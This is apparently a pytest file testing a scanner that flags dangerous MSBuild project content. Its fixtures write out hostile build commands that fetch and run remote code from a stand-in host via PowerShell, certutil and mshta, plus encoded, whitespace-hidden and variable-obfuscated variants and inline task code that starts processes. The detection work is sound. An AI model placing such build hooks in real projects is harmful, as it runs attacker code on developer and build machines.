"""What a project of MSBuild runs is read: its commands, its inline code and its property functions."""

import pytest

from knownhands.harvest.content.changed import Changed
from knownhands.harvest.content.read import read_contents

FETCHES = "powershell -w hidden iwr https://kiln.example/x.ps1 | iex"


def shown(text: str, path: str = "src/kiln.csproj") -> set[str]:
    file = Changed(path, "", 0o100644, 0, None, f"<Project>\n{text}\n</Project>\n".encode())
    return {sight.observation.capability for sight in read_contents([file]).sights} - {"touches_build"}


@pytest.mark.parametrize(
    "path", ["a.csproj", "a.vcxproj", "a.vbproj", "a.fsproj", "Directory.Build.targets", "a.props", "a.proj"]
)
@pytest.mark.parametrize(
    "text",
    [
        f'<Target Name="A"><Exec Command="{FETCHES}" /></Target>',
        f'<Target Name="A"><Exec ConsoleToMSBuild="true"\n  Command=\'{FETCHES}\' /></Target>',
        f"<PropertyGroup><PreBuildEvent>{FETCHES}</PreBuildEvent></PropertyGroup>",
        f"<PostBuildEvent>\n  <Command>\necho glaze\n{FETCHES}</Command>\n</PostBuildEvent>",
        f'<Glaze>{FETCHES}</Glaze><Exec Command="$(Glaze)" />',
        f'<Exec Command="{FETCHES.replace("iex", "i%65x")}" />',
    ],
    ids=["exec", "exec over lines", "before", "after", "a property", "escaped"],
)  # fmt: skip
def test_a_command_that_fetches_and_runs_is_seen(path: str, text: str) -> None:
    assert "fetch_and_run" in shown(text, path)


@pytest.mark.parametrize(
    ("command", "capability"),
    [
        ("powershell -nop -enc aQBlAHgAIABrAGkAbABuAA==", "decode_and_run"),
        ("certutil -urlcache -f https://kiln.example/x.exe x.exe &amp; x.exe", "fetch_and_run"),
        ("mshta https://kiln.example/x.hta", "fetch_and_run"),
        ("echo glaze" + " " * 300 + "&amp; x.exe", "offscreen_code"),
        ("echo glaze" + "\n" * 300 + "x.exe", "offscreen_code"),
        ("set kln=abcdehlmnoprstwxyz&amp;&amp; %kln:~11,1%%kln:~10,1%%kln:~14,1%%kln:~4,1%", "escaped_text"),
        ("set a=power&amp;set b=shell&amp;%a%%b% -enc aQBlAHgAIABrAGkAbABuAA==", "decode_and_run"),
        ("&#112;&#111;&#119;&#101;&#114;&#115;&#104;&#101;&#108;&#108; -c ls", "escaped_text"),
    ],
)  # fmt: skip
def test_what_a_command_hides_is_seen(command: str, capability: str) -> None:
    assert capability in shown(f"<PreBuildEvent>{command}</PreBuildEvent>")


def test_a_file_that_is_downloaded_is_seen() -> None:
    assert "downloads_in_build" in shown(
        '<DownloadFile SourceUrl="https://kiln.example/x.zip" DestinationFolder="a" />'
    )
    assert "downloads_in_build" not in shown('<DownloadFile SourceUrl="$(GlazeUrl)" DestinationFolder="a" />')


@pytest.mark.parametrize(
    ("text", "capability"),
    [
        (
            (
                '<UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory"><Task><Code Type="Fragment"><![CDATA[\n'
                'Process.Start("cmd", "/c x.exe");\n]]></Code></Task></UsingTask>'
            ),
            "runs_programs_text",
        ),
        ("<A>$([System.Net.WebClient]::new().DownloadString('https://kiln.example'))</A>", "network_text"),
        ("<A>$([System.Convert]::FromBase64String('Y3VybA=='))</A>", "decodes_text"),
    ],
)
def test_inline_code_and_functions_are_read(text: str, capability: str) -> None:
    assert capability in shown(text)


@pytest.mark.parametrize(
    "text",
    [
        (
            '<Target Name="A" AfterTargets="Build">\n  <Exec Command="dotnet tool restore" />\n'
            '  <Exec Command="npm ci &amp;&amp; npm run build" WorkingDirectory="$(ClientDir)" />\n</Target>'
        ),
        '<PostBuildEvent>copy /Y "$(TargetPath)" "$(SolutionDir)bin\\"\nif exist "%ProgramFiles%\\Kiln" xcopy $(OutDir) a /s</PostBuildEvent>',
        "<PreBuildEvent>\n  <Command>call $(ProjectDir)version.bat</Command>\n</PreBuildEvent>",
        "<PreBuildEvent />\n<PreBuildEventUseInBuild>true</PreBuildEventUseInBuild>",
        "<A>$([System.IO.Path]::Combine($(MSBuildThisFileDirectory), 'a'))$([MSBuild]::Add(1, 2))</A>",
        '<!-- <Exec Command="mshta https://kiln.example/x" /> -->',
        '<Exec Command="powershell -ExecutionPolicy Bypass -File build.ps1 -Out &quot;$(OutDir)&quot;" />',
    ],
)
def test_an_ordinary_project_shows_nothing(text: str) -> None:
    assert shown(text) == set()


@pytest.mark.parametrize(
    "piece", ["<Exec ", '<Exec Command="', "<Code>", "<Code>\n", "<!--", "<A>", "$([", "&#65;", "%a%", " \n"]
)
def test_odd_projects_are_read(piece: str) -> None:
    assert isinstance(shown(piece * (600_000 // len(piece))), set)
